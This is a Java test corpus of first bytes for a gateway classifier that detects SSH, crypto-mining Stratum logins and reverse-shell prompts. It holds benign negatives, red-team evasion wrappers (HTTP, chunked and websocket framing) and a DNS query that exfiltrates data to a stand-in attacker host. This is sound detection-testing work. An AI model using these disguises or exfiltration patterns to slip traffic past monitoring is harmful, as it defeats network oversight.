package dev.ale.gateway.sink;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.UnaryOperator;
import java.util.zip.Deflater;
import java.util.ArrayList;

/**
 * Byte streams for the classifier's corpus and fuzz tests: what each hostile protocol sends
 * first, the disguises the red team wrapped them in, and the benign streams that must stay benign.
 */
final class FirstBytesCorpus {

    static final String XMRIG_LOGIN = "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\","
            + "\"pass\":\"x\",\"agent\":\"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0\",\"algo\":[\"rx/0\"]}}\n";

    /** What each hostile protocol opens with, by the classification it must get. */
    static Map<String, Class<? extends Classification>> positives() {
        Map<String, Class<? extends Classification>> p = new LinkedHashMap<>();
        p.put("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n", Classification.Ssh.class);
        p.put("SSH-2.0-dropbear_2022.83\r\n", Classification.Ssh.class);
        p.put("SSH-1.99-Cisco-1.25\r\n", Classification.Ssh.class);
        p.put("SSH-2.0-paramiko_3.4.0\r\n", Classification.Ssh.class);
        p.put("SSH-2.0-Go\r\n", Classification.Ssh.class);
        // Monero style (XMRig and friends)
        p.put(XMRIG_LOGIN, Classification.StratumMining.class);
        p.put("{\"id\":2,\"jsonrpc\":\"2.0\",\"method\":\"submit\",\"params\":{\"id\":\"a1b2\",\"job_id\":\"7\",\"nonce\":\"0e1a2b3c\","
                + "\"result\":\"00ff\"}}\n", Classification.StratumMining.class);
        p.put("{\"id\":3,\"jsonrpc\":\"2.0\",\"method\":\"keepalived\",\"params\":{\"id\":\"a1b2\"}}\n", Classification.StratumMining.class);
        p.put("{\"id\":1,\"method\":\"login\",\"params\":{\"login\":\"wallet.rig1\",\"pass\":\"x\",\"rigid\":\"rig1\"}}\n",
                Classification.StratumMining.class);
        // Bitcoin style
        p.put("{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": [\"cgminer/4.10.0\"]}\n", Classification.StratumMining.class);
        p.put("{\"params\": [\"bc1qworker.rig1\", \"x\"], \"id\": 2, \"method\": \"mining.authorize\"}\n", Classification.StratumMining.class);
        p.put("{\"params\":[\"worker\",\"job1\",\"00000000\",\"5e6f7a8b\",\"1a2b3c4d\"],\"id\":4,\"method\":\"mining.submit\"}\n",
                Classification.StratumMining.class);
        p.put("{\"id\":3,\"method\":\"mining.extranonce.subscribe\",\"params\":[]}\n", Classification.StratumMining.class);
        // JSON-RPC batches
        p.put("[{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"cpuminer/2.5.1\"]}]\n", Classification.StratumMining.class);
        p.put("[{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"eth_blockNumber\"},{\"id\":2,\"method\":\"mining.authorize\",\"params\":[\"w\",\"x\"]}]",
                Classification.StratumMining.class);
        // Ethereum and getwork style
        p.put("{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"eth_submitLogin\",\"params\":[\"0x5a0b54d5dc17e0aadc383d2db43b0a0d3e029c4c\"]}\n",
                Classification.StratumMining.class);
        p.put("{\"jsonrpc\":\"1.0\",\"id\":\"miner\",\"method\":\"getblocktemplate\",\"params\":[{\"rules\":[\"segwit\"]}]}",
                Classification.StratumMining.class);
        // reverse shells: what the sandbox end sends before and after the first command
        p.put("bash: cannot set terminal process group (1234): Inappropriate ioctl for device\nbash: no job control in this shell\n"
                + "root@sb-3f9c2a71:/workspace# ", Classification.ReverseShell.class);
        p.put("agent@sandbox:~$ ", Classification.ReverseShell.class);
        p.put("sh-5.2$ ", Classification.ReverseShell.class);
        p.put("bash-5.1# ", Classification.ReverseShell.class);
        p.put("$ ", Classification.ReverseShell.class);
        p.put("uid=0(root) gid=0(root) groups=0(root)\n", Classification.ReverseShell.class);
        p.put("uid=1000(agent) gid=1000(agent) groups=1000(agent),27(sudo)\n", Classification.ReverseShell.class);
        p.put("[agent@sb-1 workspace]$ ", Classification.ReverseShell.class);
        p.put("\u001b[?2004h\u001b]0;agent@box: ~\u0007\u001b[01;32magent@box\u001b[00m:\u001b[01;34m~\u001b[00m$ ",
                Classification.ReverseShell.class);
        p.put("/bin/sh: 0: can't access tty; job control turned off\n# ", Classification.ReverseShell.class);
        p.put("PS C:\\Users\\agent> ", Classification.ReverseShell.class);
        p.put("Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Users\\agent>",
                Classification.ReverseShell.class);
        // a proxy somewhere else asked to tunnel
        p.put("CONNECT 10.0.0.7:22 HTTP/1.1\r\nHost: 10.0.0.7:22\r\n\r\n", Classification.Http.class);
        return p;
    }

    /** A DNS query for {@code name} (type TXT) framed for TCP: the two length bytes, then the message. */
    static byte[] dnsOverTcp(String name) {
        ByteArrayOutputStream message = new ByteArrayOutputStream();
        message.writeBytes(new byte[] {0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 1});
        for (String label : name.split("\\.")) {
            message.write(label.length());
            message.writeBytes(label.getBytes(StandardCharsets.US_ASCII));
        }
        message.writeBytes(new byte[] {0, 0, 16, 0, 1});
        // an EDNS OPT record, as dig adds
        message.writeBytes(new byte[] {0, 0, 41, 0x04, (byte) 0xd0, 0, 0, 0, 0, 0, 0});
        byte[] m = message.toByteArray();
        byte[] framed = new byte[m.length + 2];
        framed[0] = (byte) (m.length >> 8);
        framed[1] = (byte) m.length;
        System.arraycopy(m, 0, framed, 2, m.length);
        return framed;
    }

    /** Streams no hostile protocol is in: each must be classified, and none as hostile. */
    static Map<String, byte[]> negatives() {
        Map<String, byte[]> n = new LinkedHashMap<>();
        n.put("curl GET", ascii("GET /simple/requests/ HTTP/1.1\r\nHost: pypi.org\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n"));
        n.put("git smart-HTTP refs", ascii("GET /ale/ale.git/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: github.com\r\n"
                + "User-Agent: git/2.39.2\r\nAccept: */*\r\nGit-Protocol: version=2\r\n\r\n"));
        n.put("git smart-HTTP upload-pack", ascii(post("/ale/ale.git/git-upload-pack", "application/x-git-upload-pack-request",
                "0014command=ls-refs\n0014agent=git/2.39.2\n0016object-format=sha1\n00010009peel\n000csymrefs\n000bunborn\n"
                        + "0014ref-prefix HEAD\n0000")));
        n.put("Ethereum node eth_blockNumber", ascii("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"eth_blockNumber\",\"params\":[]}\n"));
        n.put("Ethereum node over HTTP", ascii(post("/", "application/json",
                "{\"jsonrpc\":\"2.0\",\"id\":7,\"method\":\"eth_getBalance\",\"params\":[\"0x5a0b54d5dc17e0aadc383d2db43b0a0d3e029c4c\",\"latest\"]}")));
        n.put("language server initialize", ascii(lsp("{\"jsonrpc\":\"2.0\",\"id\":0,\"method\":\"initialize\",\"params\":{\"processId\":42,"
                + "\"rootUri\":\"file:///workspace\",\"capabilities\":{}}}")));
        n.put("Rocket.Chat realtime login", ascii("{\"msg\":\"method\",\"method\":\"login\",\"id\":\"42\",\"params\":[{\"user\":{\"username\":\"bob\"},"
                + "\"password\":{\"digest\":\"5e884898\",\"algorithm\":\"sha-256\"}}]}\n"));
        n.put("a form's submit call", ascii(post("/api", "application/json", "{\"method\":\"submit\",\"params\":{\"form\":\"contact\",\"email\":\"bob@example.com\"}}")));
        n.put("a log uploaded in a body", ascii(post("/upload", "text/plain",
                "build log\nstep 3: running as\nuid=1000(agent) gid=1000(agent) groups=1000(agent)\nagent@box:~$ make\nok\n")));
        n.put("SMTP hello", ascii("EHLO mail.example.com\r\n"));
        n.put("a mail header", ascii("From: bob@example.com\r\nTo: alice@example.org\r\n\r\nhello\r\n"));
        n.put("Redis PING", ascii("*1\r\n$4\r\nPING\r\n"));
        n.put("websocket with a chat message", websocket("{\"type\":\"subscribe\",\"channel\":\"ticker\"}", false));
        n.put("HTTP/1.0 with a JSON body", ascii(post("/v1/items", "application/json", "{\"name\":\"widget\",\"login\":\"bob\",\"pass\":true}")));
        n.put("price text", ascii("total: $ 5.00\n"));
        return n;
    }

    /** The disguises a hostile opening was sent in. */
    static Map<String, UnaryOperator<byte[]>> disguises() {
        Map<String, UnaryOperator<byte[]>> d = new LinkedHashMap<>();
        d.put("as sent", b -> b);
        d.put("after a blank line", b -> concat(ascii("\r\n\r\n"), b));
        d.put("after spaces and tabs", b -> concat(ascii(" \t  "), b));
        d.put("after a junk line", b -> concat(ascii("hello\r\n"), b));
        d.put("after an HTTP GET head", b -> concat(ascii("GET / HTTP/1.1\r\nHost: cdn.example.com\r\n\r\n"), b));
        d.put("after an HTTP response head", b -> concat(ascii("HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/plain\r\n\r\n"), b));
        d.put("after a CONNECT", b -> concat(ascii("CONNECT cdn.example.com:443 HTTP/1.1\r\nHost: cdn.example.com:443\r\n\r\n"), b));
        d.put("after a header block", b -> concat(ascii("Content-Length: " + b.length + "\r\n\r\n"), b));
        d.put("as a POST body", b -> concat(ascii("POST /rpc HTTP/1.1\r\nHost: api.example.com\r\nContent-Type: application/json\r\n"
                + "Content-Length: " + b.length + "\r\n\r\n"), b));
        d.put("as a chunked POST body", b -> concat(ascii("POST /rpc HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: chunked\r\n\r\n"),
                chunked(b)));
        d.put("in a websocket frame", b -> websocketFramed(b, false));
        d.put("in a compressed websocket frame", b -> websocketFramed(b, true));
        return d;
    }

    static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    static String post(String path, String type, String body) {
        return "POST " + path + " HTTP/1.1\r\nHost: example.com\r\nContent-Type: " + type + "\r\nContent-Length: "
                + body.getBytes(StandardCharsets.ISO_8859_1).length + "\r\n\r\n" + body;
    }

    static String lsp(String json) {
        return "Content-Length: " + json.length() + "\r\n\r\n" + json;
    }

    static byte[] concat(byte[] a, byte[] b) {
        byte[] out = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }

    /** The body in chunks of 7 bytes, then the last chunk. */
    static byte[] chunked(byte[] body) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (int at = 0; at < body.length; at += 7) {
            int n = Math.min(7, body.length - at);
            out.writeBytes(ascii(Integer.toHexString(n) + "\r\n"));
            out.write(body, at, n);
            out.writeBytes(ascii("\r\n"));
        }
        out.writeBytes(ascii("0\r\n\r\n"));
        return out.toByteArray();
    }

    /** A websocket upgrade request and one masked message, as a client that does not wait for 101 sends them. */
    static byte[] websocket(String message, boolean compressed) {
        return websocketFramed(message.getBytes(StandardCharsets.UTF_8), compressed);
    }

    static byte[] websocketFramed(byte[] payload, boolean compressed) {
        byte[] head = ascii("GET /socket HTTP/1.1\r\nHost: ws.example.com\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
                + (compressed ? "Sec-WebSocket-Extensions: permessage-deflate\r\n" : "") + "\r\n");
        return concat(head, frame(payload, compressed, new Random(payload.length)));
    }

    /** One masked text frame (RFC 6455 5.2), deflated first when {@code compressed} (RFC 7692). */
    static byte[] frame(byte[] payload, boolean compressed, Random random) {
        byte[] data = compressed ? deflate(payload) : payload;
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(0x80 | (compressed ? 0x40 : 0) | 0x1);
        if (data.length < 126) {
            out.write(0x80 | data.length);
        } else if (data.length < 65536) {
            out.write(0x80 | 126);
            out.write(data.length >> 8);
            out.write(data.length & 0xff);
        } else {
            out.write(0x80 | 127);
            for (int i = 7; i >= 0; i--) out.write((int) ((long) data.length >> (8 * i)) & 0xff);
        }
        byte[] mask = new byte[4];
        random.nextBytes(mask);
        out.writeBytes(mask);
        for (int i = 0; i < data.length; i++) out.write(data[i] ^ mask[i & 3]);
        return out.toByteArray();
    }

    private static byte[] deflate(byte[] payload) {
        Deflater deflater = new Deflater(Deflater.DEFAULT_COMPRESSION, true);
        deflater.setInput(payload);
        byte[] out = new byte[payload.length * 2 + 64];
        int n = deflater.deflate(out, 0, out.length, Deflater.SYNC_FLUSH);
        deflater.end();
        return Arrays.copyOf(out, n - 4); // RFC 7692 7.2.1: the sender drops the final 00 00 ff ff
    }

    static List<byte[]> all() {
        List<byte[]> all = new ArrayList<>();
        positives().keySet().forEach(p -> all.add(ascii(p)));
        all.add(dnsOverTcp("c2VjcmV0.exfil.attacker.example"));
        all.addAll(negatives().values());
        return all;
    }

    private FirstBytesCorpus() {
    }
}
